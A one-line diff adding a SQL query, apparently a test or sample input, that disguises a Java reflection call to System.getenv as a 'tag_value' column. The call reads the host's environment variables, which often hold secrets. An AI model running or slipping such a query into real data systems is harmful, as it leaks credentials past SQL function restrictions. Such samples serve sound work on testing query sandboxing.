@@ -1,0 +1,1 @@
+SELECT customer_id, IDENTIFIER('reflect')('java.lang.System', 'getenv') AS tag_value FROM customers
